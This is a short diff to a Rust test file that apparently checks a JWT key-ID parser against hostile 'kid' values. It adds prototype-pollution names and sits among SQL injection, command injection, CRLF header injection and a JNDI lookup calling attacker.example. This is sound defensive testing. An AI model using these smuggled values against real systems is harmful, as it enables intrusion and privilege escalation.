@@ -52,6 +52,8 @@ pub(super) fn cases() -> Vec<Case> {
         named("kid SQL", "' UNION SELECT 'secret' -- ", unknown),
         named("kid a command", "p256|/usr/bin/id", unknown),
         named("kid an URL", "https://attacker.example/jwks.json", unknown),
+        named("kid __proto__", "__proto__", unknown),
+        named("kid constructor", "constructor", unknown),
         named("kid a lookup", "${jndi:ldap://attacker.example/a}", unknown),
         named("kid a line break", "p256\r\nx-user: root", unknown),
         named("kid not ASCII", "p\u{b2}56", unknown),
